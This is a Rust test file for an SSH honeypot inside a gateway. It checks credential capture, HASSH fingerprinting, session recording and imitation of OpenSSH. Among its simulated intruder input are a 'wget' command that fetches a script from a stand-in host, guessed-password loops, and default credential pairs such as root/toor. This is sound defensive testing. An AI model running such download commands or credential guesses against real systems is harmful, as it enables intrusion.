//! Listeners for those who should not be here, visited by the real `ssh`.

use std::collections::HashSet;
use std::io::Read;
use std::net::TcpStream;
use std::process::Command;

use serde_json::Value;
use sojourn_testkit::Gateway;
use sojourn_testkit::Options;
use sojourn_testkit::PATIENCE;
use sojourn_testkit::can_make_sandboxes;
use sojourn_testkit::until;

use crate::files_below;
use crate::gateway;
use crate::kill;
use crate::parent_of;
use crate::processes_with;
use crate::relay::Relay;

/// A honeypot listener, with more of its keys.
fn pot(keys: &str) -> String {
    let delay = if keys.contains("refusal_delay") { "" } else { "refusal_delay = \"0s\"\n" };
    format!("[[ssh]]\nlisten = \"127.0.0.1:0\"\nmode = \"honeypot\"\n{delay}{keys}\n")
}

fn with_pots(pots: &[&str]) -> Options {
    let small =
        "[profiles.bait]\npool = 1\n[profiles.jar]\npool = 1\nallow = []\nhostname = \"jar\"\n";
    let pots: String = pots.iter().map(|keys| pot(keys)).collect();
    Options { more: format!("{small}{pots}"), ..Options::default() }
}

fn attempts(gateway: &Gateway) -> Vec<Value> {
    gateway.audit().into_iter().filter(|line| line["action"] == "auth_attempt").collect()
}

/// The sidecar of the only session that has one with this text in it.
fn sidecar(gateway: &Gateway, with: &str) -> Value {
    until("a sidecar", PATIENCE, || {
        let files = files_below(&gateway.data().join("recordings"));
        files.iter().filter(|file| file.extension().is_some_and(|end| end == "json")).find_map(
            |file| {
                let text = std::fs::read_to_string(file).ok().filter(|text| text.contains(with))?;
                let sidecar: Value = serde_json::from_str(&text).ok()?;
                (!sidecar["ended_at"].is_null()).then_some(sidecar)
            },
        )
    })
}

/// Files of the gateway, and its log, that have this text in them.
fn mentions(gateway: &Gateway, text: &str) -> Vec<String> {
    let has = |bytes: &[u8]| bytes.windows(text.len()).any(|part| part == text.as_bytes());
    let mut found: Vec<String> = files_below(&gateway.data())
        .into_iter()
        .filter(|file| std::fs::read(file).is_ok_and(|bytes| has(&bytes)))
        .map(|file| file.display().to_string())
        .collect();
    if has(gateway.log().as_bytes()) {
        found.push("log".to_owned());
    }
    found
}

#[test]
fn a_right_password_opens_it_and_all_of_it_is_on_record() {
    if !can_make_sandboxes() {
        return;
    }
    let gateway = gateway(&with_pots(&[
        "credentials = [[\"root\", \"toor\"], [\"root\", \"letmein\"], [\"root+x\", \"y\"]]\n\
         accept_after_failures = 0",
        "profile = \"jar\"\ncredentials = [[\"pi\", \"raspberry\"]]\nmax_auth_tries = 20",
    ]));
    let visitor = |user: &str, passwords: &[&str]| {
        gateway.client(gateway.honeypot(0), user).passwords(passwords)
    };
    let inside = visitor("root", &["letmein"]).run("id -u; env");
    assert_eq!(inside.code, 0, "{}", inside.err);
    assert!(inside.text().starts_with("0\n"), "{}", inside.text());
    assert!(!inside.text().to_lowercase().contains("sojourn"), "{}", inside.text());
    assert_eq!(visitor("root", &["toor"]).run("exit 7").code, 7, "a name has several");
    let plus = visitor("root+x", &["y"]).run("hostname");
    assert_eq!(plus.code, 0, "the plus is part of the name: {}", plus.err);
    assert_ne!(plus.text(), "jar\n");
    let refused = visitor("root", &["wrong one\\"]).with("-oNumberOfPasswordPrompts=1").run("id");
    assert_eq!(refused.code, 255);
    assert!(refused.err.contains("Permission denied (publickey,password)"), "{}", refused.err);
    let other = gateway.client(gateway.honeypot(1), "pi").passwords(&["raspberry"]).run("hostname");
    assert_eq!(other.text(), "jar\n", "each listener has its profile: {}", other.err);
    assert_eq!(gateway.alice().run("echo $SOJOURN_USER").text(), "alice\n", "and users theirs");

    let attempts = attempts(&gateway);
    let pots: Vec<_> = attempts.iter().filter(|a| a["actor"]["type"] == "honeypot").collect();
    let told: Vec<_> = pots
        .iter()
        .map(|a| {
            let text = |name: &str| a["details"][name].as_str().unwrap_or("").to_owned();
            (text("user"), text("password"), text("outcome"), text("let_in"))
        })
        .collect();
    let line = |user: &str, password: &str, outcome: &str, let_in: &str| {
        (user.to_owned(), password.to_owned(), outcome.to_owned(), let_in.to_owned())
    };
    assert_eq!(
        told,
        [
            line("root", "letmein", "accepted", "credential"),
            line("root", "toor", "accepted", "credential"),
            line("root+x", "y", "accepted", "credential"),
            line("root", "wrong one\\\\", "refused", ""),
            line("pi", "raspberry", "accepted", "credential"),
        ]
    );
    for attempt in &pots {
        let hassh = attempt["details"]["hassh"].as_str().expect("a HASSH");
        assert!(hassh.len() == 32 && hassh.bytes().all(|b| b.is_ascii_hexdigit()), "{hassh}");
        assert!(attempt["actor"]["user_agent"].as_str().unwrap().starts_with("SSH-2.0-OpenSSH_"));
        assert_eq!(attempt["actor"]["ip_address"], "127.0.0.1");
        assert!(attempt["details"]["listener"].as_str().unwrap().starts_with("127.0.0.1:"));
    }
    let alices = attempts.iter().find(|a| a["actor"]["user"] == "alice").unwrap();
    assert_eq!(alices["details"]["hassh"], pots[0]["details"]["hassh"], "the same program");

    let started: Vec<_> = gateway
        .audit_with(2, "session_started")
        .into_iter()
        .filter(|line| line["action"] == "session_started")
        .collect();
    assert_eq!(started[0]["actor"]["type"], "honeypot");
    assert_eq!(started[0]["details"]["profile"], "bait");
    let sessions = gateway.sessions();
    assert!(sessions[1]["user"].is_null(), "nobody's: {}", sessions[1]);
    assert_eq!(sessions[0]["user"], "alice");
    let sidecar = sidecar(&gateway, "\"letmein\"");
    assert!(sidecar["user"].is_null());
    let tried = &sidecar["authentication"][0];
    assert_eq!((&tried["user"], &tried["outcome"]), (&"root".into(), &"accepted".into()));
    assert_eq!(sidecar["peer"]["hassh"], pots[0]["details"]["hassh"]);
    for file in mentions(&gateway, "letmein") {
        let allowed = file.contains("/audit/") || file.ends_with(".json");
        assert!(allowed, "a password tried at a honeypot is evidence, and only there: {file}");
    }
}

#[test]
fn the_try_after_so_many_refused_passwords_is_let_in() {
    if !can_make_sandboxes() {
        return;
    }
    let gateway = gateway(&with_pots(&[
        "credentials = []\naccept_after_failures = 3",
        "credentials = []\naccept_after_failures = 0\nmax_auth_tries = 4",
        "credentials = []\naccept_after_failures = 40\nmax_auth_tries = 50",
    ]));
    let first = gateway.honeypot(0);
    let guess = |port: u16, passwords: &[&str]| {
        let prompts = format!("-oNumberOfPasswordPrompts={}", passwords.len());
        gateway.client(port, "oracle").passwords(passwords).with(&prompts)
    };
    // Counted by connection: twice two are not three.
    for _ in 0..2 {
        assert_eq!(guess(first, &["a", "b"]).run("id").code, 255);
    }
    // Keys, and the question which methods there are, do not count.
    let key = gateway.scratch().path().join("key").display().to_string();
    let with_key = guess(first, &["a", "b", "c"]).with("-i").with(&key);
    let refused = with_key.with("-oPreferredAuthentications=publickey,password").run("id");
    assert_eq!(refused.code, 255, "{}", refused.text());
    let let_in = guess(first, &["a", "b", "c", "d\t\x07"]).run("id -u");
    assert_eq!(let_in.text(), "0\n", "{}", let_in.err);

    let never = guess(gateway.honeypot(1), &["a", "b", "c", "d", "e"]).run("id");
    assert_eq!(never.code, 255);
    assert!(never.err.contains("2: Too many authentication failures"), "{}", never.err);

    let long = "🍯".repeat(200);
    let stubborn = guess(gateway.honeypot(2), &vec![long.as_str(); 41]).run("echo in");
    assert_eq!(stubborn.text(), "in\n", "however much there is to tell of it: {}", stubborn.err);

    let attempts = attempts(&gateway);
    let accepted: Vec<_> =
        attempts.iter().filter(|a| a["details"]["outcome"] == "accepted").collect();
    assert_eq!(accepted.len(), 2);
    let details = &accepted[0]["details"];
    assert_eq!((&details["let_in"], &details["failures"]), (&"after_failures".into(), &3.into()));
    assert_eq!(details["password"], "d\\t\\u{7}", "shown escaped");
    let keys: Vec<_> = attempts.iter().filter(|a| a["details"]["method"] == "publickey").collect();
    assert_eq!(keys.len(), 1);
    assert!(keys[0]["details"]["fingerprint"].as_str().unwrap().starts_with("SHA256:"));
    let tried = |with: &str| sidecar(&gateway, with)["authentication"].as_array().unwrap().clone();
    assert_eq!(tried("u{7}").len(), 4);
    let last = tried("🍯");
    assert_eq!((last.len(), &last[31]["outcome"]), (32, &"accepted".into()));
}

#[test]
fn a_password_that_is_no_text_leaves_a_line() {
    if !can_make_sandboxes() {
        return;
    }
    let gateway = gateway(&with_pots(&[""]));
    let script = "import sys, warnings; warnings.filterwarnings('ignore')\n\
        import paramiko\n\
        transport = paramiko.Transport(('127.0.0.1', int(sys.argv[1])))\n\
        transport.start_client()\n\
        transport.auth_password('root', b'\\xff\\xfe')\n";
    let mut python = Command::new("/usr/bin/python3");
    python.args(["-c", script, &gateway.honeypot(0).to_string()]);
    let tried = sojourn_testkit::Running::new(python).finish(PATIENCE);
    assert_ne!(tried.code, 0, "{}", tried.err);
    let line = gateway.wait_for_audit("the attempt", |line| line["action"] == "auth_attempt");
    let reason = line["details"]["reason"].as_str().expect("a reason");
    assert!(reason.starts_with("not readable"), "{reason}");
    assert_eq!(
        (&line["actor"]["type"], line["details"]["hassh"].is_string()),
        (&"honeypot".into(), true)
    );
    assert!(line["actor"]["user_agent"].as_str().unwrap().contains("paramiko"));
}

#[test]
fn a_honeypot_has_room_of_its_own_within_the_gateways() {
    if !can_make_sandboxes() {
        return;
    }
    let key = "credentials = [[\"root\", \"root\"]]\n";
    let options = Options {
        limits: "max_concurrent_sessions = 2\nmax_sessions_per_user = 2\n".to_owned(),
        ..with_pots(&[&format!("{key}max_sessions = 1"), &format!("{key}max_sessions = 50")])
    };
    let gateway = gateway(&options);
    let visitor = |number| gateway.client(gateway.honeypot(number), "root").passwords(&["root"]);
    let mut first = visitor(0).start(&["echo in; cat"]);
    first.expect("in");
    let full = visitor(0).run("echo in");
    assert_eq!((full.code, full.text().as_str()), (75, ""));
    assert!(full.err.contains("Too many logins for 'root'."), "{}", full.err);
    assert!(!full.err.to_lowercase().contains("sojourn"), "{}", full.err);
    let refused = gateway.wait_for_audit("the refusal", |l| l["action"] == "session_refused");
    assert_eq!(refused["details"]["code"], "max_sessions");
    assert_eq!(refused["actor"]["type"], "honeypot");
    // There is room for one more session, whoever comes.
    let second = visitor(1).start(&["echo in; cat"]);
    second.expect("in");
    let full = visitor(1).run("echo in");
    assert_eq!(full.code, 75);
    assert!(full.err.contains("Too many logins for 'root'."), "{}", full.err);
    let alice = gateway.alice().run("echo in");
    assert_eq!(alice.code, 75);
    assert!(alice.err.contains("the gateway is full"), "{}", alice.err);
    drop(first.take_stdin());
    assert_eq!(first.finish(PATIENCE).code, 0);
    until("the place that was given back", PATIENCE, || {
        (visitor(0).run("echo in").text() == "in\n").then_some(())
    });
}

#[test]
fn what_is_typed_in_a_honeypot_is_recorded_passwords_too() {
    if !can_make_sandboxes() {
        return;
    }
    let gateway = gateway(&with_pots(&["credentials = [[\"root\", \"root\"]]"]));
    let port = gateway.honeypot(0);
    let mut shell = gateway.client(port, "root").passwords(&["root"]).with("-tt").start(&[]);
    shell.expect("# ");
    shell.write(b"read -rsp pass$((1+1)): secret; echo got-$secret | tr a-z A-Z\n");
    shell.expect("pass2:");
    shell.write(b"open-sesame\n");
    shell.expect("GOT-OPEN-SESAME");
    shell.write(b"exit\n");
    assert_eq!(shell.finish(PATIENCE).code, 0);
    let sidecar = sidecar(&gateway, "\"root\"");
    let cast = files_below(&gateway.data().join("recordings"))
        .into_iter()
        .find(|file| file.extension().is_some_and(|end| end == "cast"))
        .expect("a recording");
    let cast = std::fs::read_to_string(cast).expect("a recording");
    let typed = |line: &str| line.contains("\"i\"") && line.contains("open-sesame");
    assert!(cast.lines().any(typed), "{cast}");
    assert_eq!(sidecar["channels"][0]["kind"], "shell");
}

#[test]
fn command_lines_are_in_the_sidecar() {
    if !can_make_sandboxes() {
        return;
    }
    let gateway = gateway(&with_pots(&["credentials = [[\"root\", \"root\"]]"]));
    let visitor = || gateway.client(gateway.honeypot(0), "root").passwords(&["root"]);
    let commands = |with: &str| {
        let sidecar = sidecar(&gateway, with);
        let lines = sidecar["commands"].as_array().expect("commands").clone();
        lines.iter().map(|line| line.as_str().unwrap_or("").to_owned()).collect::<Vec<_>>()
    };
    let mut shell = visitor().with("-tt").start(&[]);
    shell.expect("# ");
    shell.write(b"cd /tmpp\x7f; mkdir one-two\n");
    shell.write(b"cat /etc/hostn\t");
    shell.expect("cat /etc/hostname");
    shell.write(b"\nread -rsp pass$((1+1)): secret\n");
    shell.expect("pass2:");
    shell.write(b"hunter2\n");
    shell.write(b"\x1b[A\x1b[A\x1b[A\x15exit\n");
    assert_eq!(shell.finish(PATIENCE).code, 0);
    assert_eq!(
        commands("one-two"),
        [
            "cd /tmp; mkdir one-two",
            "cat /etc/hostname",
            "read -rsp pass$((1+1)): secret",
            "hunter2",
            "exit"
        ]
    );
    assert_eq!(visitor().run("uname -a; echo exec-line").code, 0);
    assert_eq!(commands("exec-line"), ["uname -a; echo exec-line"]);
    let mut piped = visitor().with("-T").start(&[]);
    piped.write(b"wget http://192.0.2.1/piped.sh\nexit 0\n");
    assert_eq!(piped.finish(PATIENCE).code, 0);
    assert_eq!(commands("piped.sh"), ["wget http://192.0.2.1/piped.sh", "exit 0"]);

    // Of users too, but not what they type where a password is asked for.
    let mut shell = gateway.alice().with("-tt").start(&[]);
    shell.expect("# ");
    shell.write(b"read -rsp pass$((1+1)): word_of_alice; echo done-$((1+1))\n");
    shell.expect("pass2:");
    shell.write(b"hunter3\n");
    shell.expect("done-2");
    shell.write(b"exit\n");
    assert_eq!(shell.finish(PATIENCE).code, 0);
    let lines = commands("word_of_alice");
    assert_eq!(lines, ["read -rsp pass$((1+1)): word_of_alice; echo done-$((1+1))", "exit"]);
    assert_eq!(mentions(&gateway, "hunter3"), Vec::<String>::new());
}

#[test]
fn command_lines_survive_their_shim() {
    if !can_make_sandboxes() {
        return;
    }
    let gateway = gateway(&with_pots(&["credentials = [[\"root\", \"root\"]]"]));
    let visitor = gateway.client(gateway.honeypot(0), "root").passwords(&["root"]);
    let mut shell = visitor.with("-tt").start(&[]);
    shell.expect("# ");
    shell.write(b"echo first-$((40+2))\n");
    shell.expect("first-42");
    shell.write(b"sleep 4242\n");
    let sleeper =
        until("the sleeper", PATIENCE, || processes_with("sleep 4242").into_iter().next());
    // Its shell, the sandbox's process 1, the shim.
    kill(parent_of(parent_of(parent_of(sleeper))));
    let sidecar = sidecar(&gateway, "\"recovered\": true");
    assert_eq!(sidecar["commands"], serde_json::json!(["echo first-$((40+2))", "sleep 4242"]));
}

#[test]
fn a_password_tried_at_a_users_listener_is_nowhere() {
    if !can_make_sandboxes() {
        return;
    }
    let gateway = gateway(&with_pots(&["accept_after_failures = 1"]));
    let wrong = ["correct horse battery staple", "Tr0ub4dor&3-and-more"];
    let client = gateway.alice().passwords(&wrong).with("-oNumberOfPasswordPrompts=2");
    let refused = client.with("-oKbdInteractiveAuthentication=no").run("id");
    assert_eq!(refused.code, 255);
    assert_eq!(gateway.alice().run("echo in").text(), "in\n");
    gateway.wait_for_audit("two attempts", |l| l["details"]["method"] == "publickey");
    assert_eq!(attempts(&gateway).len(), 3);
    for password in wrong {
        assert_eq!(mentions(&gateway, password), Vec::<String>::new());
    }
}

#[test]
fn a_honeypot_looks_like_an_sshd_and_not_like_the_gateway() {
    if !can_make_sandboxes() {
        return;
    }
    let gateway = gateway(&with_pots(&["", "server_id = \"OpenSSH_9.2p1 Debian-2+deb12u3\""]));
    let version = |port: u16| {
        let mut stream = TcpStream::connect(("127.0.0.1", port)).expect("a listener");
        let mut begin = [0; 80];
        let n = stream.read(&mut begin).expect("its version");
        String::from_utf8_lossy(&begin[..n]).lines().next().unwrap_or_default().to_owned()
    };
    assert_eq!(version(gateway.port), "SSH-2.0-Sojourn");
    assert_eq!(version(gateway.honeypot(0)), "SSH-2.0-OpenSSH_10.0p2 Debian-7");
    assert_eq!(version(gateway.honeypot(1)), "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3");

    let keys = |port: u16| {
        let scan =
            Command::new("ssh-keyscan").args(["-p", &port.to_string(), "127.0.0.1"]).output();
        let text = String::from_utf8_lossy(&scan.expect("ssh-keyscan").stdout).into_owned();
        text.lines().filter_map(|l| l.split_once(' ').map(|(_, key)| key.to_owned())).collect()
    };
    let (users, visitors): (HashSet<String>, HashSet<String>) =
        (keys(gateway.port), keys(gateway.honeypot(0)));
    let kinds: HashSet<_> = visitors.iter().filter_map(|key| key.split(' ').next()).collect();
    assert_eq!(kinds, HashSet::from(["ssh-rsa", "ecdsa-sha2-nistp256", "ssh-ed25519"]));
    assert_eq!(users.len(), 2);
    assert!(users.is_disjoint(&visitors), "one host key would tell whose they both are");

    let ssh = gateway.client(gateway.honeypot(0), "root").passwords(&["x"]);
    let debug =
        ssh.with("-vv").with("-oLogLevel=DEBUG2").with("-oNumberOfPasswordPrompts=1").run("");
    let (_, theirs) = debug.err.split_once("peer server KEXINIT proposal").expect("a proposal");
    let list = |kind: &str| {
        let begin = format!("debug2: {kind}: ");
        theirs
            .lines()
            .find_map(|line| line.strip_prefix(&begin))
            .unwrap_or_default()
            .trim()
            .to_owned()
    };
    assert_eq!(
        list("KEX algorithms"),
        "mlkem768x25519-sha256,curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,\
         ecdh-sha2-nistp384,ecdh-sha2-nistp521,ext-info-s,kex-strict-s-v00@openssh.com"
    );
    assert_eq!(
        list("host key algorithms"),
        "rsa-sha2-512,rsa-sha2-256,ecdsa-sha2-nistp256,ssh-ed25519"
    );
    assert_eq!(
        list("ciphers stoc"),
        "chacha20-poly1305@openssh.com,aes128-gcm@openssh.com,aes256-gcm@openssh.com,aes128-ctr,\
         aes192-ctr,aes256-ctr"
    );
    assert_eq!(
        list("MACs stoc"),
        "hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha1-etm@openssh.com,\
         hmac-sha2-256,hmac-sha2-512,hmac-sha1"
    );
}

#[test]
fn the_hassh_is_that_of_the_packet() {
    if !can_make_sandboxes() {
        return;
    }
    let gateway = gateway(&with_pots(&["credentials = [[\"root\", \"root\"]]"]));
    let relay = Relay::to(gateway.honeypot(0), b"");
    let visit = gateway.client(relay.port, "root").passwords(&["root"]);
    let ciphers = visit.with("-oCiphers=aes256-ctr,aes128-ctr").with("-oMACs=hmac-sha2-512");
    assert_eq!(ciphers.run("echo in").text(), "in\n");
    // The same in another language, from the bytes that passed.
    let script = "import sys, struct, hashlib\n\
        data = sys.stdin.buffer.read()\n\
        data = data[data.index(b'\\n') + 1:]\n\
        at, lists = 4 + 1 + 17, []\n\
        for _ in range(8):\n\
        \x20   n, = struct.unpack('>I', data[at:at + 4])\n\
        \x20   lists.append(data[at + 4:at + 4 + n]); at += 4 + n\n\
        assert lists[2] == b'aes256-ctr,aes128-ctr', lists\n\
        print(hashlib.md5(b';'.join(lists[0:8:2][i] for i in (0, 1, 2, 3))).hexdigest())\n";
    let mut python = Command::new("python3");
    python.args(["-c", script]);
    let mut python = sojourn_testkit::Running::new(python);
    python.write(&relay.seen());
    let hassh = python.finish(PATIENCE);
    assert_eq!(hassh.code, 0, "{}", hassh.err);
    assert_eq!(attempts(&gateway)[0]["details"]["hassh"], hassh.text().trim());
}
